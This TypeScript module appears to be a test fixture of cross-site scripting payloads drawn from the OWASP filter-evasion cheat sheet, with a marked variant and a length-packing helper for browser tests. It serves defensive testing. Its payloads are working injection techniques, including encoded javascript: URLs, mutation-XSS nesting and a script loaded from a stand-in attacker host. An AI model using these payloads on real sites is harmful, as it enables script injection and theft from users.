/** Known script-injection payloads (OWASP filter-evasion cheat sheet and friends). */
export const xssPayloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p onclick="alert(1)">text</p>',
  '<span style="color:red" onmouseover="alert(1)">hover</span>',
  '<span style="background:url(javascript:alert(1))">bg</span>',
  '<span style="color:expression(alert(1))">ie</span>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<style>@import "javascript:alert(1)";</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<<script>script>alert(1)<</script>/script>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<a href='//evil.example'>protocol-relative</a>",
  '<div><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></div>',
  "<template><script>alert(1)</script></template>",
]

/**
 * The same payloads with `alert(1)` replaced by a marker a browser test can read (`window.__xss`), for
 * pages where a dialog might be swallowed; tests listen for dialogs too, so both forms are covered.
 */
export const markedXssPayloads = xssPayloads.map((p) => p.replace(/alert\(1\)/g, "window.__xss=1").replace(/msgbox\(1\)/g, "window.__xss=1"))

/** Payloads packed into strings of at most `max` characters (for fields with a length limit). */
export function packedPayloads(max: number, payloads: readonly string[] = markedXssPayloads): string[] {
  const packs: string[] = []
  let current = ""
  for (const p of payloads.filter((x) => x.length <= max)) {
    if (current && current.length + 1 + p.length > max) {
      packs.push(current)
      current = ""
    }
    current = current ? `${current} ${p}` : p
  }
  if (current) packs.push(current)
  return packs
}
